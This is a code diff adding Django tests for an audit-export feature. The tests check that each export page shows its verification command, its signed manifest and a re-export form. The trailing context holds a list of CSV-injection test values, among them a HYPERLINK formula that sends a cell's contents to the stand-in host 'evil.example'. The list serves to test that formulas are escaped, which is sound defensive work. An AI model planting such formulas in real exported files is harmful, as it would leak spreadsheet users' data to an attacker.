@@ -135,6 +135,51 @@ def test_a_streamed_export_has_no_file_to_download(client, cast, trail):
     assert client.get(f"/audit/exports/{response['X-Export-Id']}/download").status_code == 404
 
 
+def verify_command(export) -> str:
+    manifest = "" if export.format == "jsonl" else f" --manifest {export.manifest_file_name}"
+    return f"python clients/verify_audit.py {export.file_name}{manifest} --public-key govportal-audit.pub"
+
+
+@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
+def test_a_streamed_exports_page_shows_its_verify_command_its_manifest_and_how_to_download_it_again(
+    client, cast, trail, fmt
+):
+    response = start_export(client, cast.audrey, fmt, action="model.")
+    first = body_of(response)
+    export = AuditExport.objects.get(pk=response["X-Export-Id"])
+    text = page_text(client.get(f"/audit/exports/{export.pk}/"))
+
+    assert f'<code id="verify-command">{verify_command(export)}</code>' in text
+    assert f'href="/audit/exports/{export.pk}/manifest" download="{export.manifest_file_name}"' in text
+    assert f'Streamed to your browser as <span class="mono">{export.file_name}</span>' in text
+    assert "Available until" not in text and f"/audit/exports/{export.pk}/download" not in text
+    again = re.search(r'<form [^>]*id="export-again">(.*?)</form>', text, re.S).group(1)
+    fields = dict(re.findall(r'<input type="hidden" name="(\w+)" value="([^"]*)">', again))
+    assert fields.pop("csrfmiddlewaretoken")
+    assert fields == {"format": fmt, "action": "model."}
+    again = client.post("/audit/exports/start/", fields)
+    assert again.status_code == 200 and again["X-Export-Id"] != str(export.pk)
+    if fmt == "csv":
+        assert body_of(again) == first
+    else:  # the same events, under a manifest line naming the new export
+        assert split_jsonl(body_of(again))[0] == split_jsonl(first)[0]
+
+
+def test_a_pdf_exports_page_shows_its_download_its_manifest_and_its_verify_command(
+    client, cast, trail, django_capture_on_commit_callbacks
+):
+    client.force_login(cast.audrey)
+    with django_capture_on_commit_callbacks(execute=True):
+        client.post("/audit/exports/start/", {"format": "pdf"})
+    export = AuditExport.objects.get()
+    text = page_text(client.get(f"/audit/exports/{export.pk}/"))
+
+    assert f'<code id="verify-command">{verify_command(export)}</code>' in text
+    assert f"Download {export.file_name}</a>" in text and "Available until" in text
+    assert f"Download the signed manifest, {export.manifest_file_name}</a>" in text
+    assert "export the same filters as JSON Lines" in text and 'id="export-again"' not in text
+
+
 # Spreadsheets run a cell that starts with one of these as a formula (tab and CR as well, OWASP CSV injection).
 FORMULAS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")", "+1+2", "-2+3", "@SUM(A1:A9)", "\tcmd", "\rcmd",
             "'=already quoted"]  # fmt: skip
